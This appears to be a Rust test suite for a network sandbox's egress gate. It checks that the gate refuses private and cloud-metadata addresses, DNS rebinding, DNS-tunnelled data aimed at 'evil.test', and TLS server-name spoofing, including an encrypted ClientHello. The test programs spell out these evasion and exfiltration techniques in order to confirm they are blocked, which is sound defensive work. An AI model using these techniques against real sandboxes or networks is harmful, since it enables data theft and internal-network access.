//! Host names, addresses and TLS: which connections are allowed.

use crate::allow;
use crate::sandbox::{Sandbox, users};
use crate::world::{PUBLIC, World, capitals, tls_capitals};

#[test]
fn g110_names_with_addresses_of_the_machine_or_its_network_are_refused() {
    let addresses = [
        "127.0.0.1",
        "10.1.2.3",
        "169.254.169.254",
        "93.184.216.99",
        "::ffff:127.0.0.1",
        "64:ff9b::7f00:1",
        "2002:7f00:1::1",
    ];
    let mut world = World::default().own("93.184.216.99");
    for (number, address) in addresses.iter().enumerate() {
        world = world.name(&format!("n{number}.test"), address);
    }
    let program = format!(
        r#"
for number in range({}): say(attempt(exchange, f"n{{number}}.test", 80))
"#,
        addresses.len()
    );
    for user in users() {
        let ended = Sandbox::start(*user, allow(&["*.test"]), world.clone(), &program).finish();
        assert_eq!(ended.lines(), ["reset"; 7]);
        assert!(world.dialled().is_empty(), "{:?}", world.dialled());
        let refused = ended.refused();
        let listed: Vec<_> = refused
            .iter()
            .map(|(name, port, _, count)| (*name, *port, *count))
            .collect();
        let names: Vec<String> = (0..7).map(|number| format!("n{number}.test")).collect();
        let expected: Vec<_> = names.iter().map(|name| (name.as_str(), 80, 1)).collect();
        assert_eq!(listed, expected);
        assert_eq!(
            refused[1].2,
            "the name resolves to 10.1.2.3, a private address"
        );
    }
}

#[test]
fn g110_a_private_address_is_dialled_where_the_name_may_have_one() {
    let world = World::default()
        .name("registry.corp", "10.1.2.3")
        .name("evil.corp", "10.1.2.4")
        .server_at("10.1.2.3:80", capitals());
    let mut config = allow(&["*.corp"]);
    config.private = vec!["registry.corp:80".to_owned()];
    let program = r#"
say(attempt(exchange, "registry.corp", 80))
say(attempt(exchange, "evil.corp", 80))
"#;
    let ended = Sandbox::start(users()[0], config, world.clone(), program).finish();
    assert_eq!(ended.lines(), ["HELLO", "reset"]);
    let dialled: Vec<String> = world.dialled().iter().map(ToString::to_string).collect();
    assert_eq!(dialled, ["10.1.2.3:80"]);
}

#[test]
fn g111_the_address_that_was_checked_is_dialled() {
    let world = World::default()
        .name("rebind.test", PUBLIC)
        .name("rebind.test", "127.0.0.1")
        .server(80, capitals());
    let program = r#"
say(attempt(exchange, "rebind.test", 80))
say(attempt(exchange, "rebind.test", 80))
"#;
    let ended =
        Sandbox::start(users()[0], allow(&["rebind.test"]), world.clone(), program).finish();
    assert_eq!(ended.lines(), ["HELLO", "reset"]);
    assert_eq!(
        world.looked_up().len(),
        2,
        "one look-up for each connection"
    );
    assert_eq!(world.dialled().len(), 1);
}

#[test]
fn g114_no_query_leaves_whatever_is_asked() {
    let world = World::default().name("allowed.test", PUBLIC);
    let program = r#"
def query(name, kind, number=1):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0"
    return struct.pack(">HHHHHH", number & 0xffff, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)
def ask(name, kind, number=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(query(name, kind, number), ("127.0.0.1", 53))
    reply = s.recv(4096)
    assert reply[:2] == struct.pack(">H", number & 0xffff)
    return reply[3] & 15, struct.unpack(">H", reply[6:8])[0]
data = ".".join(["d" * 60] * 3)
for kind in [1, 28, 16, 10, 255, 65]:
    say(kind, *ask("allowed.test", kind), *ask(data + ".evil.test", kind))
say(sum(ask(f"n{n}.evil.test", 1, n)[0] == 3 for n in range(10000)))
say(*ask("allowed.test", 1))
with connect("127.0.0.1", 53) as s:
    for name in ["allowed.test", "evil.test"]:
        q = query(name, 1)
        s.sendall(struct.pack(">H", len(q)) + q)
        reply = s.recv(4096)
        say(reply[5] & 15, struct.unpack(">H", reply[8:10])[0])
"#;
    let ended =
        Sandbox::start(users()[0], allow(&["allowed.test"]), world.clone(), program).finish();
    assert_eq!(
        ended.lines(),
        [
            "1 0 1 3 0",
            "28 0 0 3 0",
            "16 0 0 3 0",
            "10 0 0 3 0",
            "255 0 0 3 0",
            "65 0 0 3 0",
            "10000",
            "0 1",
            "0 1",
            "3 0",
        ]
    );
    // Once for each query for the address of the allowed name.
    assert_eq!(world.looked_up(), ["allowed.test"; 3]);
    let left_out = ended.refusals.left_out;
    assert!(left_out > 9000, "{left_out}");
}

#[test]
fn allowed_name_without_an_address_is_a_name_error_and_told() {
    let world = World::default().name("allowed.test", PUBLIC);
    let program = r#"
say(attempt(connect, "gone.test", 443))
"#;
    for user in users() {
        let config = allow(&["gone.test"]);
        let ended = Sandbox::start(*user, config, world.clone(), program).finish();
        assert_eq!(ended.lines(), ["no such name"]);
        let told = "the look-up failed: no such name outside";
        assert_eq!(ended.refused(), [("gone.test", 0, told, 1)]);
        let outcome = ended.refusals.entries[0].outcome;
        assert_eq!(outcome, abide_gate::refusals::Outcome::Failed);
    }
}

#[test]
fn look_up_without_an_answer_is_a_failure_and_not_a_name_error() {
    let world = World::default().unanswered("slow.test");
    let program = r#"
try: socket.getaddrinfo("slow.test", 443, socket.AF_INET)
except socket.gaierror as e: say(e.errno == socket.EAI_AGAIN)
"#;
    let config = allow(&["slow.test"]);
    let ended = Sandbox::start(users()[0], config, world, program).finish();
    assert_eq!(ended.lines(), ["True"]);
    let told = ended.refused();
    assert_eq!(
        (told[0].0, told[0].2),
        ("slow.test", "the look-up failed: timed out")
    );
}

#[test]
fn g116_tls_on_port_443_must_name_the_server() {
    let world = World::default()
        .name("allowed.test", PUBLIC)
        .server(443, tls_capitals())
        .server(80, tls_capitals());
    let program = r#"
def first_bytes(port, text):
    with connect("allowed.test", port) as s:
        s.sendall(text)
        return s.recv(100) or "closed"
say(attempt(tls, "allowed.test", 443, "allowed.test"))
say(attempt(tls, "allowed.test", 443, "evil.test"))
say(attempt(tls, "allowed.test", 443, None))
say(attempt(tls, "allowed.test", 80, "evil.test"))
say(attempt(first_bytes, 443, b"GET / HTTP/1.1\r\n\r\n"))
# Port 443 with a Host header that is not the server name: nothing inside TLS is seen.
say(attempt(tls, "allowed.test", 443, "ALLOWED.test", b"host: other.test"))
# A ClientHello with the extension of an encrypted one.
name = b"\0\x0f\0\0\x0callowed.test"
extensions = b"\0\0" + struct.pack(">H", len(name)) + name + b"\xfe\x0d\0\1\0"
body = b"\3\3" + bytes(32) + b"\0\0\2\x13\1\1\0" + struct.pack(">H", len(extensions)) + extensions
hello = b"\1\0" + struct.pack(">H", len(body)) + body
say(attempt(first_bytes, 443, b"\x16\3\1" + struct.pack(">H", len(hello)) + hello))
"#;
    for user in users() {
        let before = world.dialled().len();
        let ended =
            Sandbox::start(*user, allow(&["allowed.test"]), world.clone(), program).finish();
        assert_eq!(
            ended.lines(),
            [
                "HELLO",
                "reset",
                "reset",
                "HELLO",
                "reset",
                "HOST: OTHER.TEST",
                "reset"
            ]
        );
        assert_eq!(
            ended.refused(),
            [
                (
                    "allowed.test",
                    443,
                    "TLS names another server, \"evil.test\"",
                    1
                ),
                ("allowed.test", 443, "TLS without a server name", 1),
                ("allowed.test", 443, "not TLS, which port 443 must carry", 1),
                (
                    "allowed.test",
                    443,
                    "TLS with an encrypted ClientHello, which hides the server name; \
                     Chromium sends none with --ssl-version-max=tls1.2",
                    1
                ),
            ]
        );
        assert_eq!(world.dialled().len() - before, 3);
    }
}
